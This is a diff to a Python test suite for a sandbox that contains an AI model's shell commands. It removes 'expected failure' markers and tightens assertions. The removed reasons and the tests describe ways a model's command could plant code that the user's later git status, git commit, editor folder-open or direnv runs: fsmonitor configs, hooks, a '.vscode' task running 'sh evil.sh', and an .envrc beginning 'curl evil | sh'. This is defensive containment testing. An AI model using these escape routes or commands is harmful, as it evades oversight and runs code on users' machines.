@@ -42,12 +42,6 @@ def repository(project: Path) -> None:
 
 
 @needs_namespaces
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: `.git/commondir` is writable (only config/hooks/info are read-only); naming a folder the "
-    "command made inside .git moves the repository's config, hooks and refs there, so the user's next "
-    "`git status` runs the model's core.fsmonitor (sandbox.REPOSITORY_READ_ONLY misses commondir)",
-)
 def test_a_planted_commondir_does_not_give_the_users_git_a_config_of_the_models(server, project: Path, short: Path) -> None:
     repository(project)
     marker = short / "r7-commondir-ran"
@@ -63,12 +57,6 @@ def test_a_planted_commondir_does_not_give_the_users_git_a_config_of_the_models(
 
 
 @needs_namespaces
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: the read-only binds sit on the old .git's inodes; `mv .git .git-old` and a new .git made by the "
-    "command (objects and refs copied, a config of its own) is the repository the user's git uses afterwards "
-    "(enter_namespaces binds config/hooks/info, not .git itself, and the snapshots never look at .git)",
-)
 def test_a_repository_folder_moved_away_and_replaced_keeps_no_config_of_the_models(server, project: Path, short: Path) -> None:
     repository(project)
     marker = short / "r7-moved-ran"
@@ -86,28 +74,17 @@ def test_a_repository_folder_moved_away_and_replaced_keeps_no_config_of_the_mode
 
 
 @needs_namespaces
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a repository the command itself makes has no read-only parts during that command (they are "
-    "found when each command starts), so `git init && git config core.fsmonitor ...` in one command leaves a "
-    "config the user's later `git status` runs",
-)
 def test_a_repository_made_and_configured_in_one_command_runs_nothing_of_the_models_later(server, project: Path, short: Path) -> None:
     (project / "main.py").write_text("print('hi')\n")
     marker = short / "r7-init-ran"
-    texts, _ = run(server, project, command(f"git init -q . && git config core.fsmonitor 'touch {marker}; false' && echo made"))
-    assert "made" in texts[0], texts[0]
+    _, _, user, text = run_asked(server, project, f"git init -q . && git config core.fsmonitor 'touch {marker}; false' && echo made", ApprovalDecision(False))
+    assert "made" in text and [(r.kind, r.path) for r in user.asked] == [("write_sensitive", ".git")], text
+    assert "did not keep the git repository" in text and not (project / ".git").exists()
     users_git(project, "status")
     assert not marker.exists()
 
 
 @needs_namespaces
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a nested repository `sub/.git` has no read-only parts (only the root's .git has), and once "
-    "`git add sub` puts it in the index as a gitlink, the user's `git status` at the root runs `git status` "
-    "inside sub, which runs sub/.git/config's core.fsmonitor",
-)
 def test_a_nested_repository_added_as_a_gitlink_runs_nothing_in_the_users_git_status(server, project: Path, short: Path) -> None:
     repository(project)
     marker = short / "r7-nested-ran"
@@ -116,18 +93,12 @@ def test_a_nested_repository_added_as_a_gitlink_runs_nothing_in_the_users_git_st
         f"git config core.fsmonitor 'touch {marker}; false' && cd .. && git add sub 2>/dev/null; git ls-files -s sub; echo ran"
     )
     texts, _ = run(server, project, command(script))
-    assert "ran" in texts[0] and "160000" in texts[0], texts[0]
+    assert "ran" in texts[0] and "160000" not in texts[0], texts[0]  # the root's index is read-only: no gitlink
     users_git(project, "status")
     assert not marker.exists()
 
 
 @needs_namespaces
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: enter_namespaces binds a read-only part only `if os.path.exists(real)`; a repository without a "
-    "hooks folder (made with an empty template, by libgit2 or jj, or the user removed the samples) lets the "
-    "command create .git/hooks/pre-commit, which the user's next `git commit` runs",
-)
 def test_a_repository_without_a_hooks_folder_gets_no_hook_from_a_command(server, project: Path, short: Path) -> None:
     import shutil
 
@@ -143,12 +114,6 @@ def test_a_repository_without_a_hooks_folder_gets_no_hook_from_a_command(server,
 
 
 @needs_namespaces
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a submodule's repository lives in .git/modules/<name>, whose config and hooks are not among "
-    "REPOSITORY_READ_ONLY; `git -C sub config core.fsmonitor ...` there runs in the user's next `git status` "
-    "at the root (which looks into every submodule)",
-)
 def test_a_submodules_repository_gets_no_config_of_the_models(server, project: Path, short: Path) -> None:
     source = short / "lib"
     source.mkdir()
@@ -270,12 +235,6 @@ def test_an_envrc_in_a_nested_repository_the_command_made_is_asked_about(server,
     assert not (project / "sub" / ".envrc").exists() or [r.path for r in user.asked] == ["sub/.envrc"]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: sensitive.plants_code matches `.vscode/*` (and .claude/*, .idea/*, .zed/*, .devcontainer/*, "
-    ".husky/*) against the whole path, so only at the project's root; web/.vscode/tasks.json (a monorepo folder "
-    "the user opens in the editor) is not asked about",
-)
 def test_an_editor_task_in_a_subfolder_is_asked_about(server, project: Path) -> None:
     (project / "web").mkdir()
     task = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "sh evil.sh", "runOptions": {"runOn": "folderOpen"}}]}'
@@ -284,12 +243,6 @@ def test_an_editor_task_in_a_subfolder_is_asked_about(server, project: Path) -> 
     assert not (project / "web" / ".vscode" / "tasks.json").exists()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: planted.ask_to_keep reads only MAX_SIDE_BYTES; a larger .envrc is shown empty (no diff, no "
-    "content) and the user's edit in the dialog is dropped (`new is not None` guards _rewrite), so approving "
-    "the edited text keeps the model's file",
-)
 def test_a_large_envrc_the_user_edits_in_the_dialog_is_replaced_by_the_edit(server, project: Path) -> None:
     script = "python3 -c \"open('.envrc', 'w').write('curl evil | sh\\n' + '#' * 5000000 + '\\n')\"; echo ran"
     _, _, user, text = run_asked(server, project, script, ApprovalDecision(True, content="layout python\n"))
